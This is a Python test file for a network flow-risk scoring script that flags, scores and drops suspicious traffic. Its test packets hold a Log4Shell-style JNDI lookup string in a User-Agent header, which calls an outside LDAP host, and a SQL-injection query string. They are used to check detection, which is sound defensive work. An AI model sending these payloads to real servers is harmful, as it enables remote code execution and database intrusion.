from __future__ import annotations

from typing import Any

import pytest

from nedge.testing import (
    Bench,
    ConfigError,
    Packet,
    Tcp,
    dns,
    http_response,
    load_script,
    make_flow,
    ping,
    tls,
)

STATUS = ["status_flow_risk"]


def run(packets: list[Packet], library: str = "auto", **settings: Any) -> Bench:
    script = load_script("flow_risk", settings=settings, library=library)
    script.judge(packets)
    return script


def web(agent: str) -> list[Packet]:
    request = f"GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: {agent}\r\n\r\n".encode()
    return Tcp(dport=80).handshake().client(request).server(http_response()).fin().packets


def test_an_attack_on_a_web_server(library: str) -> None:
    judged = run(web("${jndi:ldap://203.0.113.9/a}"), library)
    found = ["exploit", "suspicious_user_agent"] if library == "system" else ["suspicious_user_agent"]
    assert judged.flow.statuses == STATUS
    assert judged.flow.scores == ((80, 20, 20) if len(found) == 2 else (30, 10, 10))
    assert judged.flow.verdict == "pass"
    assert judged.alerts[-1].info == {"risks": found}


def test_what_only_a_newer_ndpi_finds(library: str) -> None:
    request = b"GET /?id=1+OR+1=1-- HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n"
    judged = run(Tcp(dport=80).handshake().client(request).packets, library)
    assert judged.flow.statuses == ([] if library == "system" else STATUS)


@pytest.mark.parametrize(
    "packets", [web("Mozilla/5.0"), tls().packets, tls("1.3").packets, dns("example.com").packets, ping()]
)
def test_others_are_left_alone(packets: list[Packet], library: str) -> None:
    assert run(packets, library).flow.statuses == []


def test_scores_are_configured(library: str) -> None:
    packets = tls(dport=4444).packets  # a risk that is not among the defaults
    assert run(packets, library).flow.statuses == []
    judged = run(packets, library, scores={"nonstandard_port": 100, "expiring_certificate": 0}, score=7)
    assert judged.flow.verdict == "drop"
    assert judged.flow.scores == (107, 20, 20)


def test_a_risk_that_shows_later_adds_its_score() -> None:
    script = load_script("flow_risk")
    flow = script.run(make_flow("HTTP", risks=["sql_injection"]))
    assert (flow.score, flow.verdict) == (30, "pass")
    script.run(flow, "protocolUpdated")
    assert flow.score == 30  # nothing new
    script.run(flow.update(risks=["sql_injection", "exploit", "xss"]), "protocolUpdated")
    assert (flow.score, flow.verdict) == (110, "drop")
    assert flow.alerts[-1].info == {"risks": ["exploit", "sql_injection", "xss"]}


def test_an_unknown_risk_is_told() -> None:
    with pytest.raises(ConfigError, match=r"flow_risk\.py.*'sqli'; allowed are xss, sql_injection"):
        run([], scores={"sqli": 5})


def test_memory_is_bounded() -> None:
    script = load_script("flow_risk")
    told = script.variables["told"]
    told.limit = 5
    for _ in range(20):
        script.run(make_flow("HTTP", risks=["xss"]))
    script.run(make_flow("HTTP"))
    assert len(told) == 5
